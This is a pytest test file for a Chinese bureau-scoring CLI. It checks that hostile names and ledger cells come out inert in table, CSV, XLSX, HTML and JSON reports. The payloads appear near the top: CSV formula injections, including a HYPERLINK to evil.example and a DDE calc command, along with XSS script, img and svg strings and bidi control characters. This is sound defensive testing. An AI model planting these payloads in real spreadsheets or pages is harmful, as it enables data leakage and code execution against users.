"""Hostile text end to end: names and ledger cells holding formulas, HTML/JS, control
characters, bidi overrides and very long strings go through the real CLI into every
report format and come out inert (CORE §12)."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from bureaukit.cli import main

BASE = Path(__file__).resolve().parent / "bad_inputs" / "base"
DEMO = Path(__file__).resolve().parent.parent / "configs" / "demo"
BASES = {  # folder, its conduct problems ledger, its bureau name line
    "base": (BASE, "ledgers/problems.csv", 'name = "坏输入测试局"'),
    "demo": (DEMO, "ledgers/conduct/problems.csv", 'name = "示例区交通运输局"'),
}
CHROMIUM = Path("/usr/bin/chromium")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "＝1+1", "\t=3+3", " =2+2"]  # "\t=1+1" would be "＝1+1" as a key (CORE §2)
HTML = ["<script>document.body.dataset.pwned='script'</script>",
        "<img src=x onerror=\"document.body.dataset.pwned='img'\">",
        "\"><svg onload=\"document.body.dataset.pwned='svg'\">", "</td></tr></table><h1>伪造</h1>"]
# ESC and BEL in a ledger cell are cell errors (CORE §5; test_control_characters_are_cell_errors):
# the names keep bidi controls, invisible characters and line breaks, which a cell may hold
CONTROL = ["办公\u200b[31m红色\u2060[0m室", "铃\u200d声", "左\u202e右反转\u202c", "隐\u2066藏\u2069", "回车\r换行\n"]
LONG = "长" * 5000

UNIT_NAMES = {"office": FORMULAS[0], "ygs": HTML[0] + CONTROL[0], "ygs_n": HTML[1] + CONTROL[2] + LONG}
PERSON_NAMES = {"p01": FORMULAS[1], "p03": HTML[2], "p04": CONTROL[1] + FORMULAS[3], "p05": HTML[3] + CONTROL[3]}
PROBLEMS = [  # id, description
    (FORMULAS[2], FORMULAS[0]), (FORMULAS[3], HTML[0]), (FORMULAS[4], CONTROL[4] + HTML[1]),
    (FORMULAS[5], CONTROL[2]), (FORMULAS[6], LONG),
]
MARKERS = ("HYPERLINK", "cmd|", "-1+1", "@SUM", "＝1+1", "=3+3", "=2+2")
BAD_CHARS = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def _rewrite(path: Path, fn: object) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows = [rows[0], *[fn(r) for r in rows[1:]]]  # type: ignore[operator]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module", params=sorted(BASES))
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small base bureau, and the demo with all six campaigns, with hostile text."""
    folder, problems, name_line = BASES[request.param]
    if request.param == "demo":
        for name in ("investment", "publicity", "wubi", "style", "conduct", "vanguard"):
            pytest.importorskip(f"bureaukit_{name}")
    root = tmp_path_factory.mktemp("hostile") / "b"
    shutil.copytree(folder, root)
    _rewrite(root / "org" / "units.csv", lambda r: [r[0], UNIT_NAMES.get(r[0], r[1]), *r[2:]])
    _rewrite(root / "org" / "people.csv", lambda r: [r[0], PERSON_NAMES.get(r[0], r[1]), *r[2:]])
    header = "编号,单位,整治领域,问题描述,领衔领导,责任部门,整改时限,问题查清,措施落实,整改到位,责任追究到位,群众满意,销号日期"
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header.split(","))
    for i, (pid, desc) in enumerate(PROBLEMS):
        closed = "2014-06-25" if i % 2 else ""
        w.writerow([pid, ["office", "ygs", "ygs_n"][i % 3], HTML[0], desc, "p01", "", "2014-06-30",
                    "是", "是", "是", "是", "是", closed])
    (root / problems).write_text(buf.getvalue(), encoding="utf-8")
    toml = (root / "bureau.toml").read_text(encoding="utf-8")
    assert name_line in toml
    toml = toml.replace(name_line, 'name = "=HYPERLINK(\\"http://x\\") <script>alert(1)</script> \\u202e局"')
    (root / "bureau.toml").write_text(toml, encoding="utf-8")
    return root


def score(root: Path, *args: str) -> tuple[int, bytes, str]:
    r = CliRunner().invoke(main, ["score", str(root / "bureau.toml"), *args])
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    return r.exit_code, r.stdout_bytes, r.stderr


def test_check_accepts_the_hostile_bureau(hostile: Path) -> None:
    r = CliRunner().invoke(main, ["check", str(hostile / "bureau.toml")])
    assert r.exit_code == 0, r.stderr


def test_control_characters_are_cell_errors(hostile: Path, tmp_path: Path) -> None:
    root = tmp_path / "b"
    shutil.copytree(hostile, root)
    _rewrite(root / "org" / "units.csv", lambda r: [r[0], "办公\x1b[31m红色" if r[0] == "office" else r[1], *r[2:]])
    r = CliRunner().invoke(main, ["check", str(root / "bureau.toml"), "--lang", "en"])
    assert r.exit_code == 2
    # the office's row in this base (the header is row 1)
    ids = [line.split(",")[0] for line in (root / "org" / "units.csv").read_text(encoding="utf-8-sig").splitlines()]
    row = ids.index("office") + 1
    assert f'units.csv:{row}: 单位名称: the cell holds the control character <U+001B>, got "办公<U+001B>[31m红色"' in r.stderr
    zh = CliRunner().invoke(main, ["check", str(root / "bureau.toml")]).stderr  # the bureau's Chinese
    assert f'units.csv:{row}: 单位名称: 单元格含控制字符 <U+001B>，内容为 "办公<U+001B>[31m红色"' in zh


def test_table_is_inert(hostile: Path) -> None:
    code, out, err = score(hostile, "--format", "table")
    assert code == 0, err
    text = out.decode("utf-8")
    assert not BAD_CHARS.search(text), repr(BAD_CHARS.search(text))
    assert "办公[31m红色[0m室" in text or "红色" in text  # the text stays, the escape goes


def test_csv_zip_is_inert(hostile: Path, tmp_path: Path) -> None:
    target = tmp_path / "r.zip"
    code, _, err = score(hostile, "-o", str(target))
    assert code == 0, err
    cells = []
    with zipfile.ZipFile(target) as z:
        for name in z.namelist():
            text = z.read(name).decode("utf-8-sig")
            cells += [c for row in csv.reader(io.StringIO(text)) for c in row]
    hostile_cells = [c for c in cells if any(m in c for m in MARKERS)]
    assert hostile_cells, "the hostile text should reach the csv"
    for c in hostile_cells:
        assert c[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠") and not c.lstrip().startswith("="), c
    for c in cells:
        assert not BAD_CHARS.search(c.replace("\r", "").replace("\n", "")), repr(c[:80])


def test_xlsx_is_inert(hostile: Path, tmp_path: Path) -> None:
    import openpyxl

    target = tmp_path / "r.xlsx"
    code, _, err = score(hostile, "-o", str(target))
    assert code == 0, err
    wb = openpyxl.load_workbook(target)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not BAD_CHARS.search(cell.value.replace("\n", "")), repr(cell.value[:80])
                    seen += any(m in cell.value for m in MARKERS)
    assert seen
    # and the raw sheet XML holds no <f> formula element at all
    with zipfile.ZipFile(target) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_html_is_inert(hostile: Path, tmp_path: Path) -> None:
    target = tmp_path / "r.html"
    code, _, err = score(hostile, "-o", str(target))
    assert code == 0, err
    html = target.read_text(encoding="utf-8")
    low = html.lower()
    assert "<script" not in low and "<img" not in low and "<svg onload" not in low and "<h1>伪造" not in html
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.found: list[tuple[str, list[str]]] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.found.append((tag, [a for a, _ in attrs]))

    parser = Tags()
    parser.feed(html)
    assert not [t for t, _ in parser.found if t in ("script", "img", "iframe", "object", "embed")]
    assert not [(t, a) for t, attrs in parser.found for a in attrs if a.startswith("on")]
    assert "&lt;script&gt;" in html
    assert not BAD_CHARS.search(html.replace("\r", "")), repr(BAD_CHARS.search(html))
    if not CHROMIUM.exists():
        pytest.skip("needs /usr/bin/chromium for the DOM check")
    p = subprocess.run(
        [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
         "--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom", target.as_uri()],
        capture_output=True, text=True, timeout=90, check=False,
    )
    dom = p.stdout
    assert "</html>" in dom.lower(), p.stderr[-2000:]
    assert "data-pwned" not in dom
    assert "<h1>伪造</h1>" not in dom


def test_json_keeps_the_text_verbatim(hostile: Path) -> None:
    """JSON is data for other systems: it keeps the text exactly (escaped as JSON)."""
    import json

    code, out, err = score(hostile, "--format", "json")
    assert code == 0, err
    data = json.loads(out)
    assert data["scorecards"] and any(c["name"] == UNIT_NAMES["office"] for c in data["scorecards"])


def test_subprocess_table_to_a_pipe(hostile: Path) -> None:
    p = subprocess.run([sys.executable, "-m", "bureaukit.cli", "score", str(hostile / "bureau.toml")],
                       capture_output=True, timeout=60, env={**os.environ, "CI": "1"})
    assert p.returncode == 0, p.stderr
    assert not BAD_CHARS.search(p.stdout.decode("utf-8"))
